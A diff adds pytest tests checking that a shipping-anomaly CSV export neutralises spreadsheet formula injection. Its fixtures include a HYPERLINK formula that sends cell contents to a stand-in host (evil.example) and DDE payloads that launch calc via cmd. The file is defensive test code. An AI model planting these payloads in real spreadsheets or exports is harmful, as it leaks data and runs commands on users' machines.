@@ -1,0 +1,82 @@
+"""`anomalies export`: text a shop or a carrier wrote comes out as text, never as a formula a spreadsheet runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+from sqlalchemy import update
+
+from app.carriers.sandbox.server import SandboxServer
+from app.sheets import sheet_cell, sheet_text
+from app.store.engine import Store
+from app.store.models import Anomaly, Order
+from app.tracking import evaluate
+from app.tracking.values import AnomalyRow
+from app.tracking.views import CSV_COLUMNS, write_csv
+from tests.tracking.support import add_unprinted_order, make_world, sandbox_now
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看物流")'
+AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+MINUS = "-2+3"
+PLUS = "+86 138 0000 1111"
+
+
+def _read(path: Path) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
+
+
+def test_formula_text_in_an_export_comes_out_as_text(
+    kd: Any, store: Store, sandbox: SandboxServer, tmp_path: Path
+) -> None:
+    world = make_world(store, sandbox)
+    order_id = add_unprinted_order(store, world, paid_at=sandbox_now(sandbox) - timedelta(days=2))
+    with store.session() as s:
+        s.execute(update(Order).where(Order.id == order_id).values(receiver_name=HYPERLINK))
+    assert evaluate(store, sandbox_now(sandbox)).opened_by_kind == {"ship_late": 1}
+    with store.session() as s:  # what a carrier's words or a person's note may hold
+        s.execute(update(Anomaly).values(detail=AT_SUM, note=MINUS, assignee=PLUS, resolved_by="\t=1+1"))
+
+    out = tmp_path / "anomalies.csv"
+    result = kd("anomalies", "--all", "export", "--out", str(out), "--json")
+    assert result.status == 0, result.stderr
+    assert result.json["exported"] == 1
+    (row,) = _read(out)
+    assert row["receiver_name"] == "'" + HYPERLINK
+    assert row["detail"] == "'" + AT_SUM
+    assert row["note"] == "'" + MINUS
+    assert row["assignee"] == "'" + PLUS
+    assert row["resolved_by"] == "'\t=1+1"
+    # the numbers the export writes itself stay numbers; ordinary text stays as it is
+    assert row["id"].isdigit() and float(row["age_hours"]) > 0 and row["severity"].isdigit()
+    assert (row["kind"], row["state"], row["parcel_status"]) == ("ship_late", "open", "")
+    for name in CSV_COLUMNS:
+        assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r")), name
+
+
+def test_a_cell_is_guarded_only_when_it_is_text() -> None:
+    for text in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx"):
+        assert sheet_text(text) == "'" + text
+    for text in ("张三", "13800001111", "a=b", " =1", "'=1", ""):
+        assert sheet_text(text) == text
+    assert sheet_cell(-2.5) == -2.5 and sheet_cell(-3) == -3 and sheet_cell(None) == ""
+    assert sheet_cell(False) is False
+
+    now = datetime(2024, 5, 1, 2, 0, 0)
+    row = AnomalyRow(
+        id=7, kind="problem", kind_zh="问题件", kind_en="problem", severity=2, state="open", order_id=1,
+        order="-100", shipment_id=None, waybill_id=None, waybill="", carrier="YTO", parcel_status="exception",
+        receiver_name="=cmd|' /C calc'!A0", receiver_phone_masked="138****1111", since=now, detected_at=now,
+        age_hours=-1.5, detail="-2+3", assignee="", note="", acknowledged_at=None, resolved_at=None,
+        resolved_by="",
+    )  # fmt: skip
+    buffer = io.StringIO()
+    assert write_csv([row], buffer) == 1
+    (written,) = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    assert written["age_hours"] == "-1.5"  # a number the export wrote itself
+    assert (written["order"], written["detail"]) == ("'-100", "'-2+3")  # text that looks like a number
+    assert written["receiver_name"] == "'=cmd|' /C calc'!A0"
+    assert written["receiver_phone_masked"] == "138****1111"
